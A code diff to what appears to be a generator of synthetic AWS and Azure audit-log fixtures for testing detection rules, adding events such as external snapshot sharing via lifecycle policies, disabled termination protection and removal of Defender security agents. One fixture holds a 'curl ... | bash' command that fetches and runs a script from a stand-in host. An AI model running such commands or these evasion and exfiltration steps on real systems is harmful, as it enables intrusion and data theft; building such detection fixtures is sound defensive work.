@@ -237,7 +237,8 @@ class Ctx:
                     "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.36")
         if style == "terraform":
             api = {"ec2": "ec2#1.186.0", "rds": "rds#1.87.3", "rbin": "rbin#1.20.3",
-                   "ec2-instance-connect": "ec2instanceconnect#1.25.3", "ebs": "ebs#1.26.3"}[service]
+                   "ec2-instance-connect": "ec2instanceconnect#1.25.3", "ebs": "ebs#1.26.3",
+                   "dlm": "dlm#1.28.3"}[service]
             return ("APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.72.1 "
                     "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.32.2 ua/2.1 os/linux "
                     f"lang/go#1.23.2 md/GOOS#linux md/GOARCH#amd64 api/{api}")
@@ -252,7 +253,8 @@ class Ctx:
         return epoch_ms(self.t + dt.timedelta(seconds=delta))
 
 
-EVENT_VERSION = {"ec2": "1.10", "rds": "1.08", "rbin": "1.08", "ec2-instance-connect": "1.08", "ebs": "1.09"}
+EVENT_VERSION = {"ec2": "1.10", "rds": "1.08", "rbin": "1.08", "ec2-instance-connect": "1.08", "ebs": "1.09",
+                 "dlm": "1.09"}
 
 
 def ct_record(ctx: Ctx, service: str, name: str, req, resp, error: tuple[str, str] | None = None) -> dict:
@@ -904,6 +906,13 @@ def b_group_set(ctx, row, look):
     return "ec2", "ModifyInstanceAttribute", req, ec2_ok(ctx, _return=True), ec2_arn(ctx, "instance", iid)
 
 
+def b_termination_protection(ctx, row, look):
+    """Termination protection off (`look`: turned on), in the object form CloudTrail logs."""
+    iid = rid("i", row)
+    req = {"instanceId": iid, "disableApiTermination": {"value": bool(look)}}
+    return "ec2", "ModifyInstanceAttribute", req, ec2_ok(ctx, _return=True), ec2_arn(ctx, "instance", iid)
+
+
 def imds_options(tokens: str) -> dict:
     return {"state": "pending", "httpTokens": tokens, "httpPutResponseHopLimit": 2, "httpEndpoint": "enabled",
             "httpProtocolIpv6": "disabled", "instanceMetadataTags": "disabled"}
@@ -1151,12 +1160,32 @@ def b_modify_db(ctx, row, look, field):
     return "rds", "ModifyDBInstance", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}"
 
 
+def b_lifecycle_policy(ctx, row, look, update):
+    """A DLM snapshot policy whose daily schedule shares each snapshot (`look`: with the own
+    account, which shares nothing)."""
+    policy = "policy-" + hx("dlm", row, n=17)
+    schedule = {"name": "daily", "copyTags": True,
+                "createRule": {"interval": 24, "intervalUnit": "HOURS", "times": ["03:00"]},
+                "retainRule": {"count": 7},
+                "shareRules": [{"targetAccounts": [OWN if look else EXT]}]}
+    details = {"policyType": "EBS_SNAPSHOT_MANAGEMENT", "resourceTypes": ["VOLUME"],
+               "targetTags": [{"key": "app", "value": "ledger"}], "schedules": [schedule]}
+    req = {"executionRoleArn": f"arn:aws:iam::{OWN}:role/service-role/AWSDataLifecycleManagerDefaultRole",
+           "description": "ledger volumes daily", "state": "ENABLED", "policyDetails": details}
+    arn = f"arn:aws:dlm:{ctx.region}:{OWN}:policy/{policy}"
+    if update:
+        return "dlm", "UpdateLifecyclePolicy", {"policyId": policy, **req}, {}, arn
+    return "dlm", "CreateLifecyclePolicy", req, {"policyId": policy}, arn
+
+
 RUNNING, PENDING, STOPPING, STOPPED, SHUTTING = (16, "running"), (0, "pending"), (64, "stopping"), (80, "stopped"), (32, "shutting-down")
 
 AWS_BUILDERS = {
     "aws.ec2.snapshot_public": lambda c, r, l: b_snapshot_attribute(c, r, l, "public"),
     "aws.ec2.snapshot_shared": lambda c, r, l: b_snapshot_attribute(c, r, l, "external"),
     "aws.ec2.snapshot_share_removed": lambda c, r, l: b_snapshot_attribute(c, r, l, "removed"),
+    "aws.dlm.policy_share_external": lambda c, r, l: b_lifecycle_policy(c, r, l, False),
+    "aws.dlm.policy_share_external_updated": lambda c, r, l: b_lifecycle_policy(c, r, l, True),
     "aws.ec2.image_public": lambda c, r, l: b_image_attribute(c, r, l, "public"),
     "aws.ec2.image_shared": lambda c, r, l: b_image_attribute(c, r, l, "external"),
     "aws.ec2.create_snapshot": b_create_snapshot,
@@ -1191,6 +1220,7 @@ AWS_BUILDERS = {
     "aws.ec2.start_instances": lambda c, r, l: b_instances_state(c, r, l, "StartInstances", 1, PENDING, STOPPED),
     "aws.ec2.modify_instance_user_data": b_user_data,
     "aws.ec2.modify_instance_attribute": b_group_set,
+    "aws.ec2.termination_protection_disabled": b_termination_protection,
     "aws.ec2.imds_v1_enabled": b_imds,
     "aws.ec2.associate_instance_profile": b_associate_profile,
     "aws.ec2.replace_instance_profile": b_replace_profile,
@@ -1756,8 +1786,11 @@ def az_spec(row_id: str):
                                                             {"location": "westeurope", "properties": {"source": {"script": "curl -fsSL http://203.0.113.50/c.sh | bash"},
                                                                                                       "asyncExecution": True}},
                                                             "sync_created", "forbidden"),
-        "azure.compute.vmss_extension_delete": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu/extensions/MDE.Linux", None, "lro",
-                                                conflict("OperationNotAllowed", "Cannot delete extension MDE.Linux while a scale set upgrade is in progress.")),
+        # A health probe's extension: a security agent's removal is its own row (below).
+        "azure.compute.vmss_extension_delete": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu/extensions/HealthExtension", None, "lro",
+                                                conflict("OperationNotAllowed", "Cannot delete extension HealthExtension while a scale set upgrade is in progress.")),
+        "azure.compute.vmss_security_extension_delete": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu/extensions/MDE.Linux", None, "lro",
+                                                         conflict("OperationNotAllowed", "Cannot delete extension MDE.Linux while a scale set upgrade is in progress.")),
         "azure.compute.vm_boot_diagnostics_retrieved": (rg_data, "virtualMachines/vm-sql01", None, "sync_ok", "forbidden"),
         "azure.serialconsole.connect": (rg_web, "virtualMachines/vm-web-01/providers/Microsoft.SerialConsole/serialPorts/0",
                                         None, "sync_ok", "forbidden"),
@@ -1814,8 +1847,11 @@ def az_spec(row_id: str):
                                                                "typeHandlerVersion": "2.1", "autoUpgradeMinorVersion": True,
                                                                "settings": {"commandToExecute": "bash setup.sh"}}},
                                                "sync_created", "forbidden"),
-        "azure.compute.vm_extension_delete": (rg_web, "virtualMachines/vm-web-01/extensions/MDE.Linux", None, "lro",
+        # Network Watcher's agent: a security agent's removal is its own row (below).
+        "azure.compute.vm_extension_delete": (rg_web, "virtualMachines/vm-web-01/extensions/NetworkWatcherAgentLinux", None, "lro",
                                               conflict("OperationNotAllowed", "Cannot modify extensions in the VM when the VM is not running.")),
+        "azure.compute.vm_security_extension_delete": (rg_data, "virtualMachines/vm-sql01/extensions/MDE.Windows", None, "lro",
+                                                       conflict("OperationNotAllowed", "Cannot modify extensions in the VM when the VM is not running.")),
         "azure.compute.gallery_application_version_write": (rg_build, "galleries/gal_golden_images/applications/ops-agent/versions/2.0.1",
                                                             {"location": "westeurope", "properties": {"publishingProfile": {
                                                                 "source": {"mediaLink": "https://stdeployartifacts01.blob.core.windows.net/apps/ops-agent-2.0.1.zip"},
@@ -1869,6 +1905,11 @@ AZ_GPU_ROWS = {"azure.compute.vm_write_gpu", "azure.compute.vmss_write_gpu"}
 LATE_ROWS = {"aws.ec2.replace_root_volume_delete_replaced", "azure.compute.vmss_manual_upgrade"}
 # ... and the EBS direct APIs' rows one more.
 EBS_DIRECT_ROWS = set(EBS_DIRECT_BUILDERS)
+# ... and the lifecycle policies' share rules, EC2's termination protection and the security
+# agents' removal one more.
+JUNE_ROWS = {"aws.dlm.policy_share_external", "aws.dlm.policy_share_external_updated",
+             "aws.ec2.termination_protection_disabled", "azure.compute.vm_security_extension_delete",
+             "azure.compute.vmss_security_extension_delete"}
 
 
 def az_success_phases(op: AzOp, phases: str, body, vm_resp=None) -> list[dict]:
@@ -1916,13 +1957,14 @@ def azure_op_records(key: str, row_op: str, cname: str, t: dt.datetime, style: s
 # ------------------------------------------------------------------------------------------------
 
 def gen_fixtures(catalog: list[dict]) -> dict:
-    later = GAP_ROWS | AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | LATE_ROWS | EBS_DIRECT_ROWS
+    later = GAP_ROWS | AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | LATE_ROWS | EBS_DIRECT_ROWS | JUNE_ROWS
     built = gen_fixtures_month([r for r in catalog if r["id"] not in later], 10)
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in GAP_ROWS], 9))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in AZ_LOOKALIKE_ROWS], 8))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in AZ_GPU_ROWS], 7))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in LATE_ROWS], 11))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in EBS_DIRECT_ROWS], 12))
+    built.update(gen_fixtures_month([r for r in catalog if r["id"] in JUNE_ROWS], 6))
     return built
 
 
